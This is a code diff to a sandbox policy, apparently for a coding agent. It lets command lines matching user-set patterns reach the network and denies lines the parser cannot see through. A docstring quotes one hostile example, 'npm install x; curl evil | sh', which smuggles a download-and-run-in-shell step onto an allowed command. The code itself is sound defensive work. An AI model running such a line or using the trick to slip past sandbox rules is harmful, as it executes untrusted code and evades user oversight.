@@ -96,6 +96,9 @@ class SandboxPolicy:
     protected: tuple[Path, ...] = field(default=())
     """Extra paths hidden from commands, and not creatable inside a writable root (the user's
     skipjack config dir: it may hold keys)."""
+    network_commands: tuple[str, ...] = ()
+    """`[sandbox] network_commands`: bash patterns (`safety.rules`) whose command lines get the
+    network even where it is off, e.g. `npm install *`."""
 
     @property
     def confined(self) -> bool:
@@ -107,6 +110,22 @@ class SandboxPolicy:
             return None
         support = probe()
         return None if support.available else support.reason
+
+    def for_command(self, command: str) -> SandboxPolicy:
+        """The policy for one command line: with the network when every command of the parsed
+        line matches a `network_commands` pattern (a line the parser cannot see through never
+        gets it: `npm install x; curl evil | sh` must not ride on `npm install *`)."""
+        if self.network or not self.network_commands:
+            return self
+        from skipjack.safety.commands import parse_command_line
+        from skipjack.safety.rules import compile_pattern, covers_line
+
+        parsed = parse_command_line(command)
+        if parsed.opaque:
+            return self
+        if covers_line([compile_pattern(p) for p in self.network_commands], parsed.commands):
+            return replace(self, network=True)
+        return self
 
     def outside(self) -> SandboxPolicy:
         """The policy for a command the user lets out of the sandbox: full access, still in a
@@ -143,6 +162,7 @@ def sandbox_for(
     network: bool | None = None,
     mode: SandboxMode | None = None,
     user_config_dir: Path | None = None,
+    network_commands: Sequence[str] = (),
 ) -> SandboxPolicy:
     """The sandbox an approval mode runs commands in: plan → read-only, ask/auto-edit →
     workspace-write, yolo → full access. `mode` overrides that (the user's `[sandbox] mode`).
@@ -158,7 +178,14 @@ def sandbox_for(
         writable = (Path("/"),)
     net = (chosen == "full-access") if network is None else network
     protected = (_real(user_config_dir),) if user_config_dir is not None else ()
-    return SandboxPolicy(mode=chosen, project_root=root, writable_roots=writable, network=net, protected=protected)
+    return SandboxPolicy(
+        mode=chosen,
+        project_root=root,
+        writable_roots=writable,
+        network=net,
+        protected=protected,
+        network_commands=tuple(network_commands),
+    )
 
 
 # -- support -------------------------------------------------------------------------------
